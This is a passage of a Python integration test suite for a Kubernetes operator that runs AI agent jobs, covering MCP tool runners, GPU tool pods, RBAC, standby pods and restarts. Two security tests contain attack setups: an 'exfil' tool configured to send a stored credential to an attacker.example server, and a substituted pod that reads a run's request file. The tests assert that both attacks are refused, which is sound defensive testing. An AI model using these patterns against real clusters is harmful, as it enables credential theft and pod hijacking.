    loose = json.loads(json.dumps(copy))
    del loose["spec"]["initContainers"][0]["securityContext"]  # control: the namespace does enforce it
    refused = kube.kubectl("create", "--dry-run=server", "-n", "k8s-restricted", "-f", "-", input=json.dumps(loose), check=False)
    assert refused.returncode != 0 and 'violates PodSecurity "restricted' in refused.stderr, refused.stderr
    assert condition(get(kube, "agentrun", NS, "tool-runners"), "Accepted")["status"] == "True"
    assert execution in pod["metadata"]["name"]


def test_an_mcp_server_is_reached_from_its_own_tool_runner_only(kube: ControlPlane, k8s_operator: Operator) -> None:
    """An AgentTool with `mcp` always runs in a tool runner (its MCP client): a remote server's
    header Secret is mounted in that container only, as `tools/<AgentTool>/<Header>`; a stdio
    server runs in its tool's image with its env Secrets. The agent's container holds neither, and
    status shows the MCP tools' annotations the runtime reported."""
    apply_tool(kube, "hotel", description="Hotel bookings", mcp={
        "url": "https://mcp.hotel.example/mcp", "tools": ["book", "lookup"],
        "headers": [{"name": "Authorization", "secretKeyRef": {"name": "crm-creds", "key": "token"}}]})  # fmt: skip
    apply_tool(kube, "files", description="Files", image="registry.example/files-mcp:1",
               mcp={"command": ["files-mcp", "--stdio"], "tools": ["read_file"]},
               env=[{"name": "FILES_TOKEN", "secretKeyRef": {"name": "crm-creds", "key": "files"}}])  # fmt: skip
    model = {"name": "gpt-4.1", "apiKeySecretRef": {"name": "llm", "key": "openai"}}
    run = apply_run(kube, "mcp-runners", model=model, tools=["hotel", "files"])
    pod = wait_pod(kube, run, 1)
    spec = pod["spec"]
    volumes = {v["name"]: v for v in spec["volumes"]}
    (agent,) = spec["containers"]
    store, files, hotel = spec["initContainers"]
    assert hotel["command"][-4:] == ["--tool", "hotel", "--socket", "/var/run/tether/tools/1.sock"]
    assert files["command"][-4:] == ["--tool", "files", "--socket", "/var/run/tether/tools/0.sock"]
    assert (files["image"], hotel["image"]) == ("registry.example/files-mcp:1", IMAGE)
    assert volumes["tool-1-secrets"]["projected"]["sources"] == [
        {"secret": {"name": "crm-creds", "items": [{"key": "token", "path": "tools/hotel/Authorization"}]}}
    ]
    assert volumes["tool-0-secrets"]["projected"]["sources"] == [
        {"secret": {"name": "crm-creds", "items": [{"key": "files", "path": "tools/files/FILES_TOKEN"}]}}
    ]
    assert secrets_reached(agent, volumes) == {"llm"} and secrets_reached(store, volumes) == {"tether-store"}
    assert secrets_reached(hotel, volumes) == {"crm-creds"} == secrets_reached(files, volumes)
    env = {e["name"]: e for e in agent["env"]}
    assert json.loads(env["TETHER_TOOL_RUNNERS"]["value"]) == {
        "files": "/var/run/tether/tools/0.sock",
        "hotel": "/var/run/tether/tools/1.sock",
    }
    # What the runtime reports of the MCP tools (tether.mcptool) shows in status.mcpTools.
    from tether.contract import Progress
    from tether.progress import write_progress

    kubelet(kube, pod, "Running")
    hints = [{"name": "book", "agentTool": "hotel", "readOnly": False, "destructive": False, "idempotent": True, "approval": False},
             {"name": "lookup", "agentTool": "hotel", "readOnly": True, "destructive": False, "idempotent": False, "approval": False}]  # fmt: skip
    progress = Progress.model_validate({"phase": "Running", "attempt": 1, "mcpTools": hints, "updatedAt": time.time()})
    write_progress(open_store(f"{k8s_operator.store_url}/{NS}"), run["metadata"]["uid"], progress)
    status = wait_for(lambda: (o := get(kube, "agentrun", NS, "mcp-runners"))["status"].get("mcpTools") and o["status"], what="mcpTools")
    assert status["mcpTools"] == hints


def test_an_mcp_header_names_only_secrets_its_creator_may_use(kube: ControlPlane, k8s_operator: Operator) -> None:
    """The chart's Secret access policy checks an MCP server's header Secrets as it checks `env`:
    a user who may create AgentTools but not get or use Secret `crm-creds` cannot make a tool send
    it to a server of hers (without the check she could: the operator mounts what a tool names)."""
    user = "tether-test-user-3"
    kube.kubectl("create", "role", "mcp-tool-author", "-n", NS, "--verb=create,get", "--resource=agenttools.tether.dev", check=False)
    kube.kubectl("create", "rolebinding", "mcp-tool-author", "-n", NS, "--role=mcp-tool-author", f"--user={user}", check=False)
    mcp = {"url": "https://attacker.example/mcp", "tools": ["echo"],
           "headers": [{"name": "Authorization", "secretKeyRef": {"name": "crm-creds", "key": "token"}}]}  # fmt: skip
    doc = {
        "apiVersion": "tether.dev/v1alpha1",
        "kind": "AgentTool",
        "metadata": {"name": "exfil"},
        "spec": {"description": "x", "mcp": mcp},
    }
    refused = kube.kubectl("create", "-n", NS, "-f", "-", input=json.dumps(doc), kubeconfig=kube.kubeconfig_for(user), check=False)
    assert refused.returncode != 0 and "may not get every Secret this object names (crm-creds)" in refused.stderr, refused.stderr
    # control: the same user may create it without the header
    del mcp["headers"]
    allowed = kube.kubectl("create", "-n", NS, "-f", "-", input=json.dumps(doc), kubeconfig=kube.kubeconfig_for(user), check=False)
    assert allowed.returncode == 0, allowed.stderr


def restricted_admits(kube: ControlPlane, pod: dict[str, Any]) -> None:
    """The pod's spec passes Pod Security "restricted" (a server dry run in an enforcing namespace)."""
    kube.kubectl("create", "namespace", "k8s-restricted", check=False)
    kube.kubectl("label", "namespace", "k8s-restricted", "pod-security.kubernetes.io/enforce=restricted", "--overwrite")
    kube.kubectl("create", "serviceaccount", "tether-runner", "-n", "k8s-restricted", check=False)
    copy = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": pod["metadata"]["name"]}, "spec": pod["spec"]}
    admitted = kube.kubectl("create", "--dry-run=server", "-n", "k8s-restricted", "-f", "-", input=json.dumps(copy), check=False)
    assert admitted.returncode == 0 and "Warning" not in admitted.stderr, admitted.stderr


def test_a_gpu_tool_runs_in_a_pod_of_its_own_on_its_node_pool(kube: ControlPlane, k8s_operator: Operator) -> None:
    """An AgentTool asking for a GPU runs `tether tool-runner` on TCP in a pod of its own, placed
    on the A100 pool like a run, mounting its own Secret and its token only; the agent's pod has
    no GPU, no pool, no tool Secret, and is created only once the tool pod is Ready, with the tool
    pod's IP and the token. The attempt's end deletes the tool pod and the token Secret; the
    token is nowhere in the run's status, Events or the operator's log. (On today's main the run
    was refused: UnsupportedByExecutor.)"""
    apply_tool(kube, "embed-gpu", description="Embed on a GPU", implementation="shop.tools:embed", image="registry.example/embed:1",
               resources={"memory": "8Gi", "gpu": {"type": "A100", "count": 1}},
               env=[{"name": "CRM_TOKEN", "secretKeyRef": {"name": "crm-creds", "key": "token"}}])  # fmt: skip
    model = {"name": "gpt-4.1", "apiKeySecretRef": {"name": "llm", "key": "openai"}}
    run = apply_run(kube, "gpu-tool", model=model, tools=["embed-gpu"], resources={"cpu": "1"})
    execution = execution_name(run["metadata"]["uid"])
    tool_name, runner_name, tokens = f"{execution}-1-tool-0", f"{execution}-1", f"{execution}-1-tools"
    tool_pod = wait_for(lambda: pods_of(kube, run).get(tool_name), timeout=30, what=f"tool pod {tool_name}")
    secret = wait_for(lambda: json.loads(kube.kubectl("get", "secret", tokens, "-n", NS, "-o", "json", check=False).stdout or "null"),
                      what="the token Secret")  # fmt: skip
    assert (
        secret["metadata"]["ownerReferences"]
        == tool_pod["metadata"]["ownerReferences"]
        == [
            {"apiVersion": "tether.dev/v1alpha1", "kind": "AgentRun", "name": "gpu-tool", "uid": run["metadata"]["uid"], "controller": True}
        ]
    )
    assert secret["immutable"] is True and list(secret["data"]) == ["embed-gpu"]
    token = base64.b64decode(secret["data"]["embed-gpu"]).decode()
    assert len(token) >= 40
    spec = tool_pod["spec"]
    volumes = {v["name"]: v for v in spec["volumes"]}
    (tool,) = spec["containers"]
    assert "initContainers" not in spec
    assert spec["nodeSelector"] == {"gpu": "a100"} and A100_TOLERATION in spec["tolerations"]
    assert tool["resources"] == {"requests": {"memory": "8Gi", "nvidia.com/gpu": "1"}, "limits": {"memory": "8Gi", "nvidia.com/gpu": "1"}}
    assert tool["image"] == "registry.example/embed:1" and tool["securityContext"] == SECURITY
    assert tool["command"] == ["python", "-m", "tether", "tool-runner", "--request", "/etc/tether/request/request.json",
                               "--tool", "embed-gpu", "--listen", ":7070", "--token-file", "/var/run/tether/tool-token/token"]  # fmt: skip
    assert (spec["serviceAccountName"], spec["automountServiceAccountToken"], spec["restartPolicy"]) == ("tether-runner", False, "Never")
    assert spec["securityContext"] == POD_SECURITY
    assert secrets_reached(tool, volumes) == {"crm-creds", tokens}
    assert volumes["token"]["secret"]["items"] == [{"key": "embed-gpu", "path": "token"}], "its own token only"
    assert tool_pod["metadata"]["labels"]["tether.dev/tool-pod"] == "0"
    restricted_admits(kube, tool_pod)
    # Until the tool pod is Ready the agent's pod is not made (it would not know where to call).
    time.sleep(2)
    assert runner_name not in pods_of(kube, run)
    meta = tool_pod["metadata"]
    ready = {"phase": "Running", "podIP": "10.20.30.40", "podIPs": [{"ip": "10.20.30.40"}],
             "conditions": [{"type": "Ready", "status": "True"}]}  # fmt: skip
    kube.kubectl("patch", "pod", meta["name"], "-n", NS, "--subresource=status", "--type=merge", "-p", json.dumps({"status": ready}))
    pod = wait_pod(kube, run, 1)
    spec = pod["spec"]
    volumes = {v["name"]: v for v in spec["volumes"]}
    (agent,) = spec["containers"]
    (store,) = spec["initContainers"]  # no tool runner beside the agent
    env = {e["name"]: e.get("value") for e in agent["env"]}
    assert json.loads(env["TETHER_TOOL_RUNNERS"]) == {"embed-gpu": "tcp://10.20.30.40:7070"}
    assert env["TETHER_TOOL_TOKENS"] == "/var/run/tether/tool-tokens"
    assert {"name": "tool-tokens", "mountPath": "/var/run/tether/tool-tokens", "readOnly": True} in agent["volumeMounts"]
    assert secrets_reached(agent, volumes) == {"llm", tokens} and secrets_reached(store, volumes) == {"tether-store"}
    assert "nodeSelector" not in spec and not [t for t in spec.get("tolerations") or [] if t.get("key") == "nvidia.com/gpu"]
    assert agent["resources"] == {"requests": {"cpu": "1"}}, "no GPU for the agent"
    restricted_admits(kube, pod)
    # The attempt ends: its tool pod and tokens go with it.
    kubelet(kube, pod, "Succeeded", 0)
    kube.kubectl("wait", "-n", NS, "--for=condition=Succeeded", "--timeout=30s", "agentrun/gpu-tool")
    wait_for(lambda: tool_name not in pods_of(kube, run), what="the tool pod deleted")
    assert kube.kubectl("get", "secret", tokens, "-n", NS, check=False).returncode != 0, "the token Secret deleted"
    said = json.dumps(get(kube, "agentrun", NS, "gpu-tool")) + json.dumps(events_of(kube, "gpu-tool")) + k8s_operator.logs()
    assert token not in said


def make_ready(kube: ControlPlane, pod: dict[str, Any], ip: str) -> None:
    """As the kubelet reports a pod whose readiness probe (the runner listening) passed."""
    ready = {"phase": "Running", "podIP": ip, "podIPs": [{"ip": ip}], "conditions": [{"type": "Ready", "status": "True"}]}
    meta = pod["metadata"]
    kube.kubectl(
        "patch", "pod", meta["name"], "-n", meta["namespace"], "--subresource=status", "--type=merge", "-p", json.dumps({"status": ready})
    )


def secret_exists(kube: ControlPlane, name: str, ns: str = NS) -> bool:
    return kube.kubectl("get", "secret", name, "-n", ns, check=False).returncode == 0


def test_a_dead_tool_pod_fails_the_attempt_and_the_next_makes_new_ones(kube: ControlPlane, k8s_operator: Operator) -> None:
    """The tool pod dies while the agent runs (its calls: ToolRunnerUnavailable, a recoverable
    exit): attempt 2 gets a new tool pod and a new token, and the agent's pod its new address."""
    apply_tool(
        kube,
        "embed-gpu-2",
        description="Embed on a GPU",
        implementation="shop.tools:embed",
        resources={"gpu": {"type": "A100", "count": 1}},
    )
    run = apply_run(kube, "gpu-tool-dies", tools=["embed-gpu-2"])
    execution = execution_name(run["metadata"]["uid"])
    first = wait_for(lambda: pods_of(kube, run).get(f"{execution}-1-tool-0"), what="tool pod of attempt 1")
    make_ready(kube, first, "10.20.30.41")
    runner = wait_pod(kube, run, 1)
    kubelet(kube, first, "Failed")
    kubelet(kube, runner, "Failed", 1)  # the runtime's recoverable exit (ToolRunnerUnavailable)
    second = wait_for(lambda: pods_of(kube, run).get(f"{execution}-2-tool-0"), what="tool pod of attempt 2")
    assert wait_for(lambda: f"{execution}-1-tool-0" not in pods_of(kube, run), what="attempt 1's tool pod deleted")
    assert not secret_exists(kube, f"{execution}-1-tools") and secret_exists(kube, f"{execution}-2-tools")
    make_ready(kube, second, "10.20.30.42")
    env = {e["name"]: e.get("value") for e in wait_pod(kube, run, 2)["spec"]["containers"][0]["env"]}
    assert json.loads(env["TETHER_TOOL_RUNNERS"]) == {"embed-gpu-2": "tcp://10.20.30.42:7070"}
    kubelet(kube, wait_pod(kube, run, 2), "Succeeded", 0)
    kube.kubectl("wait", "-n", NS, "--for=condition=Succeeded", "--timeout=30s", "agentrun/gpu-tool-dies")
    assert get(kube, "agentrun", NS, "gpu-tool-dies")["status"]["attempts"] == 2


def test_tool_pods_of_an_attempt_cut_short_by_an_operator_restart_are_replaced(kube: ControlPlane, k8s_operator: Operator) -> None:
    """The operator dies while an attempt's tool pod starts (the agent's pod not made yet): the
    restarted operator does not know that attempt's token, so it deletes its tool pod and Secret
    and makes attempt 2 (never a second Secret under attempt 1's name: that would be a conflict)."""
    apply_tool(
        kube,
        "embed-gpu-3",
        description="Embed on a GPU",
        implementation="shop.tools:embed",
        resources={"gpu": {"type": "A100", "count": 1}},
    )
    run = apply_run(kube, "gpu-tool-restart", tools=["embed-gpu-3"])
    execution = execution_name(run["metadata"]["uid"])
    wait_for(lambda: pods_of(kube, run).get(f"{execution}-1-tool-0"), what="tool pod of attempt 1")
    wait_for(lambda: secret_exists(kube, f"{execution}-1-tools"), what="attempt 1's token Secret")
    k8s_operator.kill()
    k8s_operator.start()
    second = wait_for(lambda: pods_of(kube, run).get(f"{execution}-2-tool-0"), what="tool pod of attempt 2")
    assert wait_for(lambda: f"{execution}-1-tool-0" not in pods_of(kube, run), what="attempt 1's tool pod deleted")
    assert not secret_exists(kube, f"{execution}-1-tools")
    make_ready(kube, second, "10.20.30.43")
    kubelet(kube, wait_pod(kube, run, 2), "Succeeded", 0)
    kube.kubectl("wait", "-n", NS, "--for=condition=Succeeded", "--timeout=30s", "agentrun/gpu-tool-restart")
    assert condition(get(kube, "agentrun", NS, "gpu-tool-restart"), "Succeeded")["status"] == "True"
    assert f"{execution}-1" not in pods_of(kube, run)


def test_runner_service_account_has_no_token_and_no_rights(kube: ControlPlane, releases: tuple[Release, Release]) -> None:
    account = json.loads(kube.kubectl("get", "serviceaccount", "tether-runner", "-n", NS, "-o", "json").stdout)
    assert account["automountServiceAccountToken"] is False
    runner = f"system:serviceaccount:{NS}:tether-runner"
    for verb, resource in (("get", "secrets"), ("list", "pods"), ("get", "configmaps"), ("list", "agentruns.tether.dev")):
        assert kube.kubectl("auth", "can-i", verb, resource, "-n", NS, f"--as={runner}", check=False).stdout.strip() == "no"


def can(kube: ControlPlane, release: Release, verb: str, resource: str, ns: str | None = None, sub: str = "") -> bool:
    args = ["auth", "can-i", verb, resource, f"--as={release.subject}"] + ([f"--subresource={sub}"] if sub else [])
    args += ["-n", ns] if ns else ["--all-namespaces"]
    return kube.kubectl(*args, check=False).stdout.strip() == "yes"


def test_rbac_namespaced_mode(kube: ControlPlane, releases: tuple[Release, Release]) -> None:
    release, _ = releases
    for ns in release.served:
        for verb in ("get", "list", "watch", "create", "delete"):
            assert can(kube, release, verb, "pods", ns), (verb, ns)
        assert can(kube, release, "create", "configmaps", ns) and can(kube, release, "create", "serviceaccounts", ns)
        assert can(kube, release, "get", "secrets", ns), "metadata only: exists, labelled for Tether"
        assert can(kube, release, "create", "secrets", ns) and can(kube, release, "delete", "secrets", ns), "GPU tools' tokens"
        assert not can(kube, release, "update", "secrets", ns) and not can(kube, release, "patch", "secrets", ns)
        for verb in ("list", "watch"):
            assert not can(kube, release, verb, "secrets", ns), "pods mount the Secrets; the operator lists none"
        assert can(kube, release, "get", "configmaps", ns), "an existing request ConfigMap is checked before use"
        assert not can(kube, release, "update", "configmaps", ns) and not can(kube, release, "list", "configmaps", ns)
        assert not can(kube, release, "create", "pods", ns, sub="exec")
        assert not can(kube, release, "create", "serviceaccounts", ns, sub="token")
        assert not can(kube, release, "create", "rolebindings.rbac.authorization.k8s.io", ns)
    for ns in (OTHER, "kube-system", release.namespace, "op-a"):
        assert not can(kube, release, "get", "secrets", ns), ns
        assert not can(kube, release, "create", "pods", ns), ns
        assert not can(kube, release, "list", "pods", ns), ns
    assert not can(kube, release, "list", "pods")  # not cluster-wide


def test_rbac_cluster_wide_mode(kube: ControlPlane, releases: tuple[Release, Release]) -> None:
    _, release = releases
    for ns in (NS, OTHER, "kube-system"):
        assert can(kube, release, "create", "pods", ns)
        for verb in ("list", "watch"):
            assert not can(kube, release, verb, "secrets", ns), (verb, ns)
    assert not can(kube, release, "update", "pods")
    assert not can(kube, release, "create", "clusterrolebindings.rbac.authorization.k8s.io")


def test_runs_holding_nothing_are_deleted_without_the_operator(kube: ControlPlane, k8s_operator: Operator) -> None:
    apply_run(kube, "waits-for-tool", tools=["not-there"])
    wait_for(lambda: condition(get(kube, "agentrun", NS, "waits-for-tool"), "Accepted").get("reason") == "UnknownTool", what="UnknownTool")
    suspended = apply_run(kube, "asks-later")
    pod = wait_pod(kube, suspended, 1)
    store = open_store(f"{k8s_operator.store_url}/{NS}")
    request = {"id": "d4e5f6", "tool": "issue-refund", "prompt": "Refund?", "arguments": {}, "requestedAt": 1.0}
    store.create(f"approvals/{suspended['metadata']['uid']}/d4e5f6.request.json", json.dumps(request).encode())
    kubelet(kube, pod, "Failed", 3)
    finished = apply_run(kube, "done-already")
    kubelet(kube, wait_pod(kube, finished, 1), "Succeeded", 0)
    kube.kubectl("wait", "-n", NS, "--for=condition=Succeeded", "--timeout=30s", "agentrun/done-already")
    wait_for(lambda: phase_of(kube, "asks-later") == "AwaitingApproval", what="AwaitingApproval")
    names = ("waits-for-tool", "asks-later", "done-already")
    wait_for(lambda: not any(finalizers(kube, n) for n in names), what="no finalizers")
    k8s_operator.stop()  # as after `helm uninstall` with the CRDs kept
    try:
        for name in names:
            kube.kubectl("delete", "agentrun", name, "-n", NS, "--timeout=15s")
    finally:
        k8s_operator.start()
    assert not any(kube.kubectl("get", "agentrun", n, "-n", NS, check=False).returncode == 0 for n in names)
    assert not pods_of(kube, suspended)


def test_a_restarted_operator_adopts_the_running_pod(kube: ControlPlane, k8s_operator: Operator) -> None:
    run = apply_run(kube, "survives")
    first = wait_pod(kube, run, 1)
    kubelet(kube, first, "Running")
    wait_for(lambda: phase_of(kube, "survives") == "Running", what="Running")
    k8s_operator.kill()  # SIGKILL: no cleanup; the pod keeps running
    k8s_operator.start()
    kubelet(kube, first, "Succeeded", 0)
    kube.kubectl("wait", "-n", NS, "--for=condition=Succeeded", "--timeout=30s", "agentrun/survives")
    assert list(pods_of(kube, run)) == [first["metadata"]["name"]], "adopted, never a second pod"
    assert get(kube, "agentrun", NS, "survives")["status"]["attempts"] == 1
    assert wait_for(lambda: not finalizers(kube, "survives"), what="finalizer released")


def test_deaths_before_an_operator_restart_count_against_retries(kube: ControlPlane, k8s_operator: Operator) -> None:
    run = apply_run(kube, "dies-twice", retries=1)
    kubelet(kube, wait_pod(kube, run, 1), "Failed", 137)
    second = wait_pod(kube, run, 2)
    k8s_operator.kill()
    k8s_operator.start()
    kubelet(kube, second, "Failed", 1)
    kube.kubectl("wait", "-n", NS, "--for=condition=Stalled", "--timeout=30s", "agentrun/dies-twice")
    assert condition(get(kube, "agentrun", NS, "dies-twice"), "Failed")["reason"] == "RetriesExhausted"
    assert len(pods_of(kube, run)) == 2, "no third attempt: retries is 1"
    # the restarted operator's metrics: the death its predecessor saw (and counted) is not a retry
    # again, the one after the restart exhausted the retries
    labels = f'namespace="{NS}",framework="openai"'
    reasons = ("Error", "Interrupted", "Killed", "Lost", "Crashed", "Unknown")
    assert sum(sample(k8s_operator, f'tether_retries_total{{{labels},reason="{r}"}}') for r in reasons) == 0
    assert sample(k8s_operator, f'tether_runs_finished_total{{{labels},phase="Failed",reason="RetriesExhausted"}}') == 1


def test_a_pod_the_apiserver_refuses_fails_the_run(kube: ControlPlane, k8s_operator: Operator) -> None:
    # `operator: Exists` with a value: valid for the CRD today, invalid in a pod (if admission
    # learns to refuse it, the run never exists, which is as good).
    spec = {"tolerations": [{"key": "spot", "operator": "Exists", "value": "yes"}]}
    doc = {"apiVersion": "tether.dev/v1alpha1", "kind": "AgentRun", "metadata": {"name": "bad-pod"}, "spec": {
        "framework": "openai", "model": {"name": "gpt-4.1"}, "input": "hello", **spec}}  # fmt: skip
    if kube.kubectl("apply", "-n", NS, "-f", "-", input=json.dumps(doc), check=False).returncode != 0:
        return
    kube.kubectl("wait", "-n", NS, "--for=condition=Stalled", "--timeout=30s", "agentrun/bad-pod")
    failed = condition(get(kube, "agentrun", NS, "bad-pod"), "Failed")
    assert "the runner pod was refused" in failed["message"] and "tolerations" in failed["message"]
    assert not finalizers(kube, "bad-pod")


GO = "tether.dev/go"


def standby_of(kube: ControlPlane, run: dict[str, Any], attempt: int) -> dict[str, Any]:
    """The run's pod of `attempt`, once it exists as a waiting standby."""
    name = f"{execution_name(run['metadata']['uid'])}-{attempt}"
    return wait_for(
        lambda: (p := pods_of(kube, run).get(name)) and p["metadata"]["annotations"].get(GO) == "" and p, what=f"standby {name}"
    )


def told_to_go(pod: dict[str, Any]) -> float:
    return float(pod["metadata"]["annotations"][GO])


def test_a_standby_pod_waits_beside_the_attempt_and_becomes_the_next(kube: ControlPlane, k8s_operator: Operator) -> None:
    """spec.standby: the next attempt's pod is started beside the running one, preferably on
    another node, and waits (no deadline ticking); when the running pod dies it is told to go —
    no new pod is created for the attempt — and a new standby follows; the run's end deletes the
    waiting one."""
    run = apply_run(kube, "standby", retries=2, standby=True, timeout="10m")
    execution = execution_name(run["metadata"]["uid"])
    first = wait_pod(kube, run, 1)
    assert told_to_go(first) > 0 and first["spec"]["activeDeadlineSeconds"] == 600
    waiting = standby_of(kube, run, 2)
    spec = waiting["spec"]
    assert "activeDeadlineSeconds" not in spec, "a standby's deadline starts when it is told to go"
    command = spec["containers"][0]["command"]
    assert command[-2:] == ["--standby", "/etc/tether/standby/go"] and command == first["spec"]["containers"][0]["command"]
    go_file = {"path": "go", "fieldRef": {"apiVersion": "v1", "fieldPath": f"metadata.annotations['{GO}']"}}
    assert {"name": "standby", "downwardAPI": {"items": [go_file], "defaultMode": 420}} in spec["volumes"]
    term = {"labelSelector": {"matchLabels": {"tether.dev/execution": execution}}, "topologyKey": "kubernetes.io/hostname"}
    assert spec["affinity"] == {
        "podAntiAffinity": {"preferredDuringSchedulingIgnoredDuringExecution": [{"weight": 100, "podAffinityTerm": term}]}
    }
    assert waiting["metadata"]["ownerReferences"] == first["metadata"]["ownerReferences"]
    assert waiting["metadata"]["labels"]["tether.dev/attempt"] == "2"
    kubelet(kube, first, "Running")
    kubelet(kube, waiting, "Running")  # started: imports done, waiting for its go file
    obj = wait_for(lambda: (o := get(kube, "agentrun", NS, "standby"))["status"].get("phase") == "Running" and o, what="Running")
    assert obj["status"]["attempts"] == 1, "a standby is not an attempt"
    time.sleep(1.5)
    assert pods_of(kube, run)[f"{execution}-2"]["metadata"]["annotations"][GO] == "", "not told to go while attempt 1 runs"
    before = time.time()
    kubelet(kube, first, "Failed", 137)  # the attempt's pod died
    promoted = wait_for(lambda: (p := pods_of(kube, run)[f"{execution}-2"])["metadata"]["annotations"][GO] and p, what="told to go")
    assert promoted["metadata"]["uid"] == waiting["metadata"]["uid"], "the standby itself runs the attempt: no new pod"
    assert told_to_go(promoted) >= before - 1
    assert 600 <= promoted["spec"]["activeDeadlineSeconds"] <= 600 + 60, "the timeout counts from the go"
    third = standby_of(kube, run, 3)  # the next standby
    assert third["metadata"]["labels"]["tether.dev/attempt"] == "3"
    wait_for(lambda: get(kube, "agentrun", NS, "standby")["status"].get("attempts") == 2, what="attempts 2")
    kubelet(kube, promoted, "Succeeded", 0)
    kube.kubectl("wait", "-n", NS, "--for=condition=Succeeded", "--timeout=30s", "agentrun/standby")
    wait_for(lambda: f"{execution}-3" not in pods_of(kube, run), what="the waiting standby deleted at the end")
    assert sorted(pods_of(kube, run)) == [f"{execution}-1", f"{execution}-2"]
    assert get(kube, "agentrun", NS, "standby")["status"]["attempts"] == 2


def test_a_standby_that_died_waiting_is_replaced_not_used(kube: ControlPlane, k8s_operator: Operator) -> None:
    """A standby that died while it waited (evicted, its node lost) is never told to go: it is
    deleted, its number skipped, and the attempt gets a new pod."""
    run = apply_run(kube, "standby-lost", retries=2, standby=True)
    execution = execution_name(run["metadata"]["uid"])
    first = wait_pod(kube, run, 1)
    kubelet(kube, standby_of(kube, run, 2), "Failed", pod_reason="Evicted")
    kubelet(kube, first, "Failed", 137)
    third = wait_pod(kube, run, 3)
    assert told_to_go(third) > 0 and third["spec"]["activeDeadlineSeconds"] == 3600
    wait_for(lambda: f"{execution}-2" not in pods_of(kube, run), what="the dead standby deleted")
    standby_of(kube, run, 4)
    wait_for(lambda: get(kube, "agentrun", NS, "standby-lost")["status"].get("attempts") == 3, what="attempts 3")
    kubelet(kube, third, "Succeeded", 0)
    kube.kubectl("wait", "-n", NS, "--for=condition=Succeeded", "--timeout=30s", "agentrun/standby-lost")
    wait_for(lambda: sorted(pods_of(kube, run)) == [f"{execution}-1", f"{execution}-3"], what="standby 4 deleted")


def test_a_pod_put_in_a_standbys_place_is_never_told_to_go(kube: ControlPlane, k8s_operator: Operator) -> None:
    """Someone who may create and delete pods in the namespace (not AgentRuns) replaces the
    waiting standby with her own pod under its name, labels and owner: the operator checks it
    before telling it to go, and fails the run (OwnedObjectConflict) instead of running her pod
    as the next attempt with the run's request."""
    user = "tether-test-user-2"
    kube.kubectl("create", "role", "pod-editor", "-n", NS, "--verb=get,list,create,delete", "--resource=pods", check=False)
    kube.kubectl("create", "rolebinding", "pod-editor", "-n", NS, "--role=pod-editor", f"--user={user}", check=False)
    run = apply_run(kube, "standby-squat", retries=2, standby=True)
    first = wait_pod(kube, run, 1)
    waiting = standby_of(kube, run, 2)
    meta = waiting["metadata"]
    mine = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {k: meta[k] for k in ("name", "labels", "annotations", "ownerReferences")},
        "spec": {"containers": [{"name": "runtime", "image": "registry.example/mine:1", "command": ["sh", "-c", "cat /etc/tether/request/request.json"]}],
                 "volumes": [v for v in waiting["spec"]["volumes"] if v["name"] == "request"]},
    }  # fmt: skip
    mine["spec"]["containers"][0]["volumeMounts"] = [{"name": "request", "mountPath": "/etc/tether/request"}]
    as_user = kube.kubeconfig_for(user)
    kube.kubectl("delete", "pod", meta["name"], "-n", NS, "--grace-period=0", "--force", kubeconfig=as_user)
    kube.kubectl("create", "-n", NS, "-f", "-", input=json.dumps(mine), kubeconfig=as_user)
    kubelet(kube, first, "Failed", 137)
    kube.kubectl("wait", "-n", NS, "--for=condition=Stalled", "--timeout=30s", "agentrun/standby-squat")
    failed = condition(get(kube, "agentrun", NS, "standby-squat"), "Failed")
    assert failed["reason"] == "OwnedObjectConflict" and meta["name"] in failed["message"], failed
    hers = pods_of(kube, run)[meta["name"]]
    assert hers["metadata"]["annotations"][GO] == "", "her pod was never told to go"
    assert "activeDeadlineSeconds" not in hers["spec"]


def test_standby_with_a_gpu_tool_is_refused(kube: ControlPlane, k8s_operator: Operator) -> None:
    """A standby would hold its GPU tool's pod (one per attempt) too: refused, not ignored. The
    run's own GPUs with standby are what it asked for (its pod spec in test_pod_spec's terms)."""
    apply_tool(kube, "embed-gpu-standby", description="Embed on a GPU", implementation="shop.tools:embed",
               resources={"gpu": {"type": "A100", "count": 1}})  # fmt: skip
    run = apply_run(kube, "standby-gpu-tool", standby=True, tools=["embed-gpu-standby"])
    kube.kubectl("wait", "-n", NS, "--for=condition=Stalled", "--timeout=30s", "agentrun/standby-gpu-tool")
    accepted = condition(get(kube, "agentrun", NS, "standby-gpu-tool"), "Accepted")
    assert accepted["status"] == "False" and accepted["reason"] == "UnsupportedByExecutor", accepted
    assert "spec.standby with AgentTool embed-gpu-standby's GPU" in accepted["message"]
    assert not pods_of(kube, run)
    gpu_run = apply_run(kube, "standby-gpu", standby=True, resources={"gpu": {"type": "A100", "count": 1}})
    assert wait_pod(kube, gpu_run, 1)["spec"]["nodeSelector"] == {"gpu": "a100"}
    assert standby_of(kube, gpu_run, 2)["spec"]["containers"][0]["resources"]["limits"] == {"nvidia.com/gpu": "1"}


def test_k8s_operator_never_crashed(k8s_operator: Operator) -> None:
    assert k8s_operator.alive()
    logs = k8s_operator.logs()
    assert "Traceback" not in logs, logs[-4000:]
    assert not list(Path(k8s_operator.workdir).glob("executions/*")), "the kubernetes executor runs nothing locally"
